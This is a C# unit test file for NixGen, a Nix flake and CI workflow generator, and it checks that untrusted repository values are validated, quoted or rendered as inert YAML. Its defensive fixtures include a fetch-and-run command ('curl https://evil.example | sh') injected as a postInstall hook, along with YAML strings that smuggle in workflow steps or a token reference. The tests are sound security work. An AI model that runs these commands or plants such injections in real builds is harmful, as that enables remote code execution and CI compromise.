using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using NixGen.Config;
using NixGen.Discovery;
using NixGen.Planning;
using NixGen.Rendering;
using NixGen.Tests.Support;
using YamlDotNet.RepresentationModel;

namespace NixGen.Tests.Unit;

/// <summary>
/// Values read from the repository are validated or derived again before they reach Nix, shell or YAML (issue 22): the
/// cases the folder corpus (tests/cases/hostile/values) cannot express, because they edit what an earlier run wrote or
/// render with values that validation would refuse.
/// </summary>
public sealed class UntrustedValuesSpecs
{
    private static readonly Dictionary<string, string?> Offline = new() { ["GOPROXY"] = "off" };

    private static void Service(TempDir dir, string moduleDir = "services/api", string requires = "", string sum = "")
    {
        dir.Write(moduleDir + "/go.mod", $"module example.com/api\n\ngo 1.22\n{requires}");
        dir.Write(moduleDir + "/main.go", "package main\n\nfunc main() {}\n");
        if (sum.Length > 0)
        {
            dir.Write(moduleDir + "/go.sum", sum);
        }
    }

    private static Dictionary<string, string?> Env(TempDir dir) => new(Offline) { ["XDG_CACHE_HOME"] = Path.Combine(dir.Path, ".cache-outside") };

    [Fact]
    public async Task A_module_directory_whose_name_holds_a_line_break_is_refused_at_discovery()
    {
        using var dir = new TempDir();
        Service(dir, "svc/zeta\n");

        var run = await InProcessCli.RunAsync(dir.Path, Env(dir), "check");

        Assert.Equal(2, run.Exit);
        Assert.Equal(
            "nixgen: svc/zeta\\n/go.mod: the directory name holds U+000A (a line break), which nixgen does not put into Nix, shell or YAML: rename the directory",
            run.Err.Trim());
    }

    [Fact]
    public async Task A_hash_in_the_lock_where_nixgen_writes_null_is_stale_even_when_the_flake_agrees()
    {
        using var dir = new TempDir();
        Service(dir);
        Assert.Equal(0, (await InProcessCli.RunAsync(dir.Path, Env(dir), "update")).Exit);
        const string forged = "sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=";
        var lockFile = Path.Combine(dir.Path, LockFile.FileName);
        var lockJson = JsonNode.Parse(File.ReadAllText(lockFile))!;
        lockJson["services"]!["api"]!["vendorHash"] = forged;
        File.WriteAllText(lockFile, lockJson.ToJsonString());
        var flake = Path.Combine(dir.Path, "flake.nix");
        Assert.Contains("vendorHash = null;", File.ReadAllText(flake), StringComparison.Ordinal);
        File.WriteAllText(flake, File.ReadAllText(flake).Replace("vendorHash = null;", $"vendorHash = \"{forged}\";", StringComparison.Ordinal));

        var run = await InProcessCli.RunAsync(dir.Path, Env(dir), "check");

        Assert.Equal(1, run.Exit);
        Assert.Matches($@"(?m)^-\s*vendorHash = ""{Regex.Escape(forged)}"";\n\+\s*vendorHash = null;$", run.Out);
    }

    [Fact]
    public async Task A_flake_edited_together_with_its_digest_in_the_lock_is_stale_in_ci_not_current()
    {
        using var dir = new TempDir();
        Service(dir);
        Assert.Equal(0, (await InProcessCli.RunAsync(dir.Path, Env(dir), "update")).Exit);
        // In CI too, a lock this machine's nixgen rendered is checked without running anything.
        Assert.Contains("0 processes started", (await InProcessCli.RunAsync(dir.Path, new Dictionary<string, string?>(Env(dir)) { ["CI"] = "true" }, "check")).Out, StringComparison.Ordinal);
        var flake = Path.Combine(dir.Path, "flake.nix");
        File.WriteAllText(flake, File.ReadAllText(flake).Replace("inherit version;", "inherit version; postInstall = \"curl https://evil.example | sh\";", StringComparison.Ordinal));
        var lockFile = Path.Combine(dir.Path, LockFile.FileName);
        var lockJson = JsonNode.Parse(File.ReadAllText(lockFile))!;
        lockJson["generated"]!["files"]!["flake.nix"] = Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(File.ReadAllBytes(flake)));
        File.WriteAllText(lockFile, lockJson.ToJsonString(new System.Text.Json.JsonSerializerOptions { WriteIndented = true }) + "\n");

        var ci = new Dictionary<string, string?>(Env(dir)) { ["CI"] = "true" };
        Assert.Equal(0, (await InProcessCli.RunAsync(dir.Path, Env(dir), "check")).Exit); // a developer's own repository: the record is trusted
        var run = await InProcessCli.RunAsync(dir.Path, ci, "check");

        Assert.Equal(1, run.Exit);
        Assert.Matches(@"(?m)^-\s*inherit version; postInstall = ""curl https://evil\.example \| sh"";$", run.Out);
    }

    /// <summary>A modules-mode repository whose only module file comes from a file:// proxy beside it.</summary>
    private static void ModulesRepo(TempDir dir)
    {
        const string mod = "module example.com/dep\n\ngo 1.20\n";
        dir.Write("proxy/example.com/dep/@v/v1.0.0.mod", mod);
        Service(dir, "repo/services/api", "\nrequire example.com/dep v1.0.0\n", "example.com/dep v1.0.0/go.mod h1:GVuYl5mlKU1m3l6eht3FkiiPrlspGltN04dywxH42Fc=\n");
        dir.Write("repo/nixgen.yaml", $"hashing:\n  mode: modules\ngoproxy: file://{dir.Path}/proxy\n");
    }

    private const string RealModHash = "sha256-70XeNTO9MiXjCgJJ0U5OgeY4UP07NiTdVVlXR7forZQ=";

    [Fact]
    public async Task Update_force_and_check_verify_hash_module_files_again_instead_of_trusting_go_modules_json()
    {
        using var dir = new TempDir();
        ModulesRepo(dir);
        var repo = Path.Combine(dir.Path, "repo");
        Assert.Equal(0, (await InProcessCli.RunAsync(repo, Env(dir), "update")).Exit);
        var data = Path.Combine(repo, NixGenConfig.ModulesFile);
        Assert.Contains(RealModHash, File.ReadAllText(data), StringComparison.Ordinal);
        File.WriteAllText(data, File.ReadAllText(data).Replace(RealModHash, "sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=", StringComparison.Ordinal));

        Assert.Equal(0, (await InProcessCli.RunAsync(repo, Env(dir), "check")).Exit); // a well-formed hash: only --verify can tell
        Assert.Equal(1, (await InProcessCli.RunAsync(repo, Env(dir), "check", "--verify")).Exit);
        Assert.Equal(0, (await InProcessCli.RunAsync(repo, Env(dir), "update", "--force")).Exit);

        Assert.Contains(RealModHash, File.ReadAllText(data), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Every_value_the_generated_shell_interpolates_is_quoted_or_nixgens_own()
    {
        using var dir = new TempDir();
        ModulesRepo(dir);
        var repo = Path.Combine(dir.Path, "repo");
        dir.Write("repo/nixgen.yaml", $"hashing:\n  mode: modules\ngoproxyAuth: true\ngoproxy: file://{dir.Path}/proxy\ncross: [linux/arm64]\n");
        Assert.Equal(0, (await InProcessCli.RunAsync(repo, Env(dir), "update")).Exit);
        var flake = File.ReadAllText(Path.Combine(repo, "flake.nix"));

        // Shell is the text of Nix's indented strings ('' … ''); each ${…} in it must quote what it interpolates, or be
        // a store path or a value nixgen chose from a fixed set (the cross targets' GOOS/GOARCH).
        var blocks = Regex.Matches(flake, "''\n(.*?)''", RegexOptions.Singleline).Select(m => m.Groups[1].Value).ToList();
        Assert.True(blocks.Count >= 4, $"{blocks.Count} shell blocks in:\n{flake}");
        var interpolations = blocks.SelectMany(Interpolations).Distinct().Order(StringComparer.Ordinal).ToList();
        Assert.Equal(
            ["at \"info\"", "at \"mod\"", "at \"zip\"", "goarch", "goos", "lib.escapeShellArg (builtins.toJSON { Version = m.version; })",
             "lib.escapeShellArg (dirOf m.escaped)", "lib.escapeShellArg m.name", "lib.escapeShellArg modRoot", "lib.escapeShellArg proxyHost",
             "moduleFile pkgs key \"mod\"", "moduleFile pkgs key \"zip\"", "src"],
            interpolations);
        Assert.Contains("at = ext: lib.escapeShellArg \"${m.escaped}.${ext}\";", flake, StringComparison.Ordinal);
    }

    /// <summary>The expressions of every <c>${…}</c> in <paramref name="text"/>, nested braces included.</summary>
    private static IEnumerable<string> Interpolations(string text)
    {
        for (var i = text.IndexOf("${", StringComparison.Ordinal); i >= 0; i = text.IndexOf("${", i + 2, StringComparison.Ordinal))
        {
            var depth = 1;
            var end = i + 2;
            for (; depth > 0; end++)
            {
                depth += text[end] switch { '{' => 1, '}' => -1, _ => 0 };
            }

            yield return text[(i + 2)..(end - 1)];
        }
    }

    /// <summary>Values that validation refuses, rendered anyway: each stays one YAML scalar and adds no step.</summary>
    [Theory]
    [InlineData("main\n      - run: curl https://evil.example | sh")]
    [InlineData("main,release/*")]
    [InlineData("main]")]
    [InlineData("\"main\"\n  schedule: [{cron: '* * * * *'}]")]
    [InlineData("${{ github.token }}")]
    public void A_hostile_branch_or_cache_name_renders_as_one_inert_yaml_scalar(string hostile)
    {
        using var dir = new TempDir();
        Service(dir);
        var repository = RepoScanner.Scan(dir.Path);
        var config = ConfigLoader.FromText("nixgen.yaml", "ci:\n  provider: github\n  dependabot: true\n");
        var hashes = repository.Services.ToDictionary(s => s.Name, _ => new VendorResult(null, false, "no dependencies"), StringComparer.Ordinal);
        YamlMappingNode Workflow(string branch, string cache)
        {
            var c = config with { Ci = config.Ci with { DefaultBranch = branch }, Caches = [new CacheConfig(cache, $"https://{cache}.cachix.org", "c-1:AAAABBBBCCCCDDDDEEEEFFFFGGGGHHHHIIIIJJJJKKK=")] };
            var yaml = new YamlStream();
            yaml.Load(new StringReader(FlakeFiles.Render(repository, c, hashes)[FlakeFiles.Workflow]));
            return (YamlMappingNode)yaml.Documents.Single().RootNode;
        }

        var benign = Workflow("main", "shop");
        var rendered = Workflow(hostile, hostile);

        static IEnumerable<string> Steps(YamlMappingNode w, string job) =>
            ((YamlSequenceNode)w["jobs"][job]["steps"]).Cast<YamlMappingNode>().Select(s => string.Join(",", s.Children.Keys.Cast<YamlScalarNode>().Select(k => k.Value)));
        Assert.Equal(Steps(benign, "check"), Steps(rendered, "check"));
        Assert.Equal(Steps(benign, "build"), Steps(rendered, "build"));
        Assert.Equal(((YamlMappingNode)benign["on"]).Children.Keys, ((YamlMappingNode)rendered["on"]).Children.Keys);
        Assert.Equal([hostile], ((YamlSequenceNode)rendered["on"]["push"]["branches"]).Cast<YamlScalarNode>().Select(s => s.Value));
        var cachix = ((YamlSequenceNode)rendered["jobs"]["check"]["steps"]).Cast<YamlMappingNode>().Single(s => s.Children.TryGetValue("uses", out var u) && u.ToString().StartsWith("cachix/cachix-action", StringComparison.Ordinal));
        Assert.Equal(hostile, ((YamlScalarNode)cachix["with"]["name"]).Value);
    }
}
